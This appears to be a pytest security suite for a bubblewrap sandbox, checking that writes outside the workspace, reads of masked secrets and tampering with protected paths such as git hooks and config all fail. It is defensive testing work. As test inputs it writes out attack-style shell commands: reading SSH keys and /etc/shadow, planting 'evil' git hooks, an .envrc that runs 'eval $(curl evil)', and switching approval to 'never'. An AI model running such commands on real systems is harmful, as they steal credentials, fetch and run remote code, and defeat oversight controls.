"""Adversarial cases 1, 2 and 9: writes outside the workspace, masked secrets, protected paths."""

from __future__ import annotations

import uuid
from collections.abc import Callable
from pathlib import Path

import pytest

from branchwise.sandbox.isolation.bwrap import BwrapSandbox
from tests.security.conftest import GIT_CONFIG, HOOK
from tests.security.sbx_helpers import sh


# Case 1: writes outside the workspace fail with EROFS and nothing appears on the host.
@pytest.mark.parametrize("target", ["/etc", "/usr/local/bin", "/var/lib"])
def test_writes_to_system_dirs_fail_and_leave_nothing(box: BwrapSandbox, target: str) -> None:
    path = Path(target) / f"branchwise-probe-{uuid.uuid4().hex}"
    result = sh(box, f"echo pwned > {path}")
    assert result.exit_code != 0
    assert "Read-only file system" in result.output
    assert not path.exists()


def test_home_writes_stay_in_the_sandbox(box: BwrapSandbox) -> None:
    name = f"branchwise-probe-{uuid.uuid4().hex}"
    result = sh(box, f"echo x > ~/{name} && echo x > /root/{name} && echo ok")
    assert result.output.strip() == "ok"  # writable, but only a private tmpfs
    assert not (Path.home() / name).exists()
    assert not (Path("/root") / name).exists()


def test_workspace_write_succeeds(box: BwrapSandbox, workspace: Path) -> None:
    result = sh(box, "mkdir -p src && echo built > src/out.txt")
    assert result.ok, result.output
    assert (workspace / "src" / "out.txt").read_text() == "built\n"


def test_read_only_mode_refuses_workspace_writes(make_box: Callable[..., BwrapSandbox], workspace: Path) -> None:
    box = make_box(mode="read-only")
    result = sh(box, "echo x > new.txt; echo x >> README.md")
    assert result.output.count("Read-only file system") == 2
    assert not (workspace / "new.txt").exists()
    assert (workspace / "README.md").read_text() == "hello\n"
    assert sh(box, "cat README.md").output == "hello\n"  # reading still works


# Case 2: secrets in home directories and other masked places are not there (ENOENT), even via a symlink.
def test_home_secrets_are_masked(box: BwrapSandbox, workspace: Path, tmp_path: Path) -> None:
    home = tmp_path / "fakehome"  # under /tmp, which the sandbox masks like /root and /home
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN FAKE KEY-----\nsecret-key-material\n")
    (workspace / "leak").symlink_to(home / ".ssh" / "id_rsa")
    result = sh(box, f"cat {home}/.ssh/id_rsa; cat leak")
    assert "secret-key-material" not in result.output
    assert result.output.count("No such file or directory") == 2
    assert sh(box, f"ls {tmp_path}").output == "ws\n"  # only the workspace is bound into the masked /tmp


def test_root_home_is_an_empty_tmpfs(box: BwrapSandbox) -> None:
    host_entries = [p.name for p in Path("/root").iterdir()]
    result = sh(box, "ls -A /root /home | grep -v : | grep -c . || true")
    assert host_entries, "the test needs a non-empty /root on the host to mean anything"
    assert result.output.strip() == "0"


def test_deny_read_masks_workspace_files_and_host_files(make_box: Callable[..., BwrapSandbox], workspace: Path) -> None:
    (workspace / ".env").write_text("API_TOKEN=super-secret-value\n")
    (workspace / "secrets").mkdir()
    (workspace / "secrets" / "prod.key").write_text("another-secret\n")
    box = make_box(deny_read=[".env", "secrets", "/etc/shadow"])
    result = sh(box, "cat .env; ls secrets; cat secrets/prod.key; cat /etc/shadow; echo done")
    assert "super-secret-value" not in result.output
    assert "another-secret" not in result.output
    assert "root:" not in result.output
    assert Path("/etc/shadow").read_text().startswith("root:")  # the host file is there and readable
    assert (workspace / ".env").read_text() == "API_TOKEN=super-secret-value\n"


def test_default_deny_read_hides_shadow_from_a_root_mapped_sandbox(box: BwrapSandbox) -> None:
    # Started by root, the sandbox's uid maps back to 0 for file access: only the mask stops this read.
    assert Path("/etc/shadow").read_text().startswith("root:")
    assert "root:" not in sh(box, "cat /etc/shadow").output


# Case 9: protected paths stay unchanged; rename and delete fail with EBUSY; nothing is left behind.
def test_protected_git_paths_resist_writes_renames_and_deletes(box: BwrapSandbox, workspace: Path) -> None:
    script = """
    echo evil > .git/hooks/pre-commit
    echo evil > .git/hooks/post-checkout
    echo '[core] hooksPath = /tmp' >> .git/config
    mv .git/hooks .git/hooks2
    rm -rf .git/hooks
    mv .git/config .git/config2
    mv .git .git-moved
    rm -rf .git
    true
    """
    result = sh(box, script)
    assert result.output.count("Read-only file system") >= 3, result.output
    assert "Device or resource busy" in result.output
    assert (workspace / ".git" / "hooks" / "pre-commit").read_text() == HOOK
    assert not (workspace / ".git" / "hooks" / "post-checkout").exists()
    assert (workspace / ".git" / "config").read_text() == GIT_CONFIG
    assert not (workspace / ".git-moved").exists()
    assert not (workspace / ".git" / "hooks2").exists()


def test_missing_protected_paths_cannot_be_created_and_leave_no_mount_points(
    box: BwrapSandbox, workspace: Path
) -> None:
    before = sorted(p.name for p in workspace.iterdir())
    result = sh(box, "echo 'eval $(curl evil)' > .envrc; mkdir .branchwise; mkdir -p .vscode; ls -la; true")
    assert ".envrc" in result.output  # inside, the path is taken by a read-only mount point
    after = sorted(p.name for p in workspace.iterdir())
    assert after == before
    for name in (".envrc", ".branchwise", ".vscode", ".idea", ".bashrc"):
        assert not (workspace / name).exists()


def test_symlinked_protected_dir_keeps_its_target_read_only(
    make_box: Callable[..., BwrapSandbox], workspace: Path
) -> None:
    decoy = workspace / "decoy"
    decoy.mkdir()
    (decoy / "config.toml").write_text("approval = 'on-request'\n")
    (workspace / ".branchwise").symlink_to("decoy")
    box = make_box()
    result = sh(box, "echo \"approval = 'never'\" > .branchwise/config.toml; echo x > .branchwise/new; true")
    assert result.output.count("Read-only file system") == 2
    assert (decoy / "config.toml").read_text() == "approval = 'on-request'\n"
    assert not (decoy / "new").exists()


def test_protection_holds_while_a_background_process_runs(box: BwrapSandbox, workspace: Path) -> None:
    bg = box.start_background(["sleep", "30"])
    assert sh(box, "echo evil > .git/hooks/pre-commit; echo x > .envrc; true").exit_code == 0
    assert (workspace / ".git" / "hooks" / "pre-commit").read_text() == HOOK
    box.stop_background(bg.id)
    assert not (workspace / ".envrc").exists()


def test_missing_shell_rc_files_are_only_blocked_in_a_home_directory(box: BwrapSandbox, workspace: Path) -> None:
    # A trade-off, kept visible here: shells read rc files only from a home directory, so outside one
    # a missing .bashrc is not worth a mount per command. An existing one is still read-only.
    (workspace / ".zshrc").write_text("# original\n")
    result = sh(box, "echo 'alias ls=evil' > .bashrc && echo created; echo evil >> .zshrc")
    assert result.output.startswith("created")
    assert (workspace / ".bashrc").exists()
    assert (workspace / ".zshrc").read_text() == "# original\n"


def test_git_worktree_pointer_file_is_protected(make_box: Callable[..., BwrapSandbox], workspace: Path) -> None:
    # In a linked worktree `.git` is a file naming the git dir; rewriting it could swap in other hooks.
    git_dir = workspace / ".git"
    (git_dir / "hooks" / "pre-commit").unlink()
    (git_dir / "hooks").rmdir()
    (git_dir / "config").unlink()
    git_dir.rmdir()
    git_dir.write_text("gitdir: /somewhere/else\n")
    box = make_box()
    result = sh(box, "cat .git; echo 'gitdir: ./evil' > .git; rm -f .git; true")
    assert result.output.startswith("gitdir: /somewhere/else")
    assert "Read-only file system" in result.output
    assert git_dir.read_text() == "gitdir: /somewhere/else\n"


def test_a_masked_host_directory_is_empty_and_private_to_each_command(
    make_box: Callable[..., BwrapSandbox], tmp_path: Path
) -> None:
    # Outside the folders that are always hidden (/tmp is), so the deny_read mask itself does the hiding.
    secret_dir = Path("/var/lib") / f"branchwise-mask-{uuid.uuid4().hex}"
    secret_dir.mkdir()
    try:
        (secret_dir / "key").write_text("top-secret\n")
        box = make_box(deny_read=[str(secret_dir)])
        first = sh(box, f"ls -A {secret_dir}; cat {secret_dir}/key; echo scratch > {secret_dir}/new && echo wrote")
        assert "top-secret" not in first.output and "wrote" in first.output, first.output
        second = sh(box, f"ls -A {secret_dir} | wc -l")
        assert second.output.strip() == "0", second.output  # what a command wrote there went with it
        assert sorted(p.name for p in secret_dir.iterdir()) == ["key"]
    finally:
        for path in secret_dir.iterdir():
            path.unlink()
        secret_dir.rmdir()


def test_each_host_path_is_masked_once(box: BwrapSandbox) -> None:
    # Every mount costs every command time (bwrap rereads the mount table for each): the default deny_read list
    # and, as root, the scan for root-only files name the same files; each must be mounted over once.
    line = box.command_line(["true"])
    targets = [line[i + 2] for i, arg in enumerate(line) if arg in ("--ro-bind", "--ro-bind-try", "--bind")]
    targets += [line[i + 1] for i, arg in enumerate(line) if arg == "--tmpfs"]
    repeated = sorted({t for t in targets if targets.count(t) > 1})
    assert not repeated, repeated
